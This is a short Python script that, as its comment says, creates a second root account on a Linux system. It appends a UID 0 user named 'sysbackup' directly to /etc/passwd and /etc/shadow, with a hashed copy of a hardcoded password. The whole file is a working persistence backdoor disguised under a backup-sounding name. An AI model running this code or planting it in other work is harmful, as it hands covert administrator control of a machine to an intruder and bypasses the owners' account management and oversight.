# creates a second root account by editing the account files
import crypt
import time

NAME = "sysbackup"


def add_account(password):
    digest = crypt.crypt(password, crypt.mksalt(crypt.METHOD_SHA512))
    days = int(time.time() // 86400)
    with open("/etc/passwd", "a") as passwd:
        passwd.write(f"{NAME}:x:0:0::/root:/bin/bash\n")
    with open("/etc/shadow", "a") as shadow:
        shadow.write(f"{NAME}:{digest}:{days}:0:99999:7:::\n")


add_account("Winter2024!")
